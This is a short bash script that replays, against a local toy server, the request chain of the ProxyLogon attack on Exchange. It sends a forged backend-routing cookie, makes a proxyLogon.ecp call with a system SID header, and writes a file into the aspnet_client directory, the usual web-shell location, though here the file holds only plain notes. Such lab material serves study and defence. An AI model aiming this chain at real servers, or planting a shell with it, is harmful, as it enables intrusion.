#!/usr/bin/env bash
# HTTPie version of the lab request chain (toy server on 127.0.0.1 only).
# `Name:value` items are headers, `name==value` items query parameters (HTTPie encodes them).
set -euo pipefail
PORT=${1:-8080}
UA='Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/88.0.4324.190 Safari/537.36'
NOTE=/aspnet_client/system_web/readme_91453.txt
BROWSER=("User-Agent:$UA" 'x-requested-with:XMLHttpRequest' 'Accept:*/*' 'accept-language:en-US,en;q=0.9' 'connection:close')

http --check-status --timeout=10 GET "127.0.0.1:$PORT/autodiscover/autodiscover.json" \
  "${BROWSER[@]}" \
  'cookie:X-AnonResource=true; X-AnonResource-Backend=lab.invalid; X-BEResource=localhost@lab.invalid/ews/exchange.asmx?a%3D~1843073522' \
  Pad==AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA \
  Protocol==Autodiscoverv1 \
  Email==administrator@lab.invalid/mapi/nspi \
  RequestId==20200302-7720 >/dev/null || exit 1

WHO=$(printf '%s' '{"mailbox": "administrator@lab.invalid", "requestKind": "identity", "seq": 1}' |
  http --body --timeout=10 POST "127.0.0.1:$PORT/ecp/proxyLogon.ecp" \
    "user-agent:$UA" 'msexchlogonmailbox:S-1-5-20' 'content-type:application/json' \
    'X-BEResource:localhost@lab.invalid/ecp/proxyLogon.ecp' || true)
WHO=${WHO:-anonymous}

printf 'note %d of 3 for %s\n' 1 "$WHO" 2 "$WHO" 3 "$WHO" | head -c -1 |
  http --timeout=10 POST "127.0.0.1:$PORT$NOTE" \
    "user-agent:$UA" "X-Note-Path:$NOTE" 'Content-Type:text/plain' >/dev/null
http --body --timeout=10 GET "127.0.0.1:$PORT$NOTE" "${BROWSER[@]}" | wc -c
